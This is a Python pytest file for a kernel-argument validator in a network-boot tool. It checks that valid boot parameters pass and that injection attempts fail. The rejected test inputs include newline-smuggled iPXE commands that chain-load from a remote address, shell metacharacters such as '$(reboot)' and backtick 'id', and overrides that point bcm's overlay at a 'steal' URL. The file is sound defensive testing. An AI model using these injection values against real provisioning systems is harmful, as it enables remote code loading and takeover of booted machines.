"""kernel_args: kernel parameters only; what would add iPXE commands or override bcm's own is refused."""

from __future__ import annotations

import pytest

from bcm.domain.kernel_args import check_kernel_args
from bcm.errors import InvalidInput


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("", ""),
        ("console=tty0 console=ttyS0,115200n8", "console=tty0 console=ttyS0,115200n8"),
        ("  quiet   rd.driver.blacklist=nouveau ", "quiet rd.driver.blacklist=nouveau"),
        ("root=UUID=0a1b-2c ip=::::eth0:dhcp nvidia.NVreg_EnableGpuFirmware=0", None),
        ("mem=4G@0x100000 iommu=pt pci=realloc,assign-busses systemd.unit=multi-user.target", None),
        ("shell", "shell"),  # a word on the kernel line is an argument to init, not an iPXE command
    ],
)
def test_kernel_parameters_pass(given: str, kept: str | None) -> None:
    assert check_kernel_args(given) == (kept if kept is not None else given)


@pytest.mark.parametrize(
    ("given", "why"),
    [
        ("quiet\nshell", "one line"),
        ("quiet\r\nchain http://198.18.0.9/x", "one line"),
        ("quiet\tshell", "one line"),
        ("quiet ; shell", "not a kernel parameter"),
        ("a=1||shell", "not a kernel parameter"),
        ("a=${net0/ip}", "not a kernel parameter"),
        ("x=$(reboot)", "not a kernel parameter"),
        ('x="a b"', "not a kernel parameter"),
        ("x=`id`", "not a kernel parameter"),
        ("x=a&&shell", "not a kernel parameter"),
        ("=value", "not a kernel parameter"),
        ("bcm.overlay=http://198.18.0.9/steal", "set by bcm"),
        ("bcm.token=x", "set by bcm"),
        ("BCM.server=http://198.18.0.9", "set by bcm"),
        ("bcm.root_sha256=00", "set by bcm"),
        ("initrd=other.img", "set by bcm"),
        ("x" * 1025, "at most"),
    ],
)
def test_commands_metacharacters_and_bcms_own_are_refused(given: str, why: str) -> None:
    with pytest.raises(InvalidInput) as exc:
        check_kernel_args(given, "kernel_args")
    assert exc.value.field == "kernel_args" and why in exc.value.message
    assert exc.value.message.startswith("kernel_args: ")
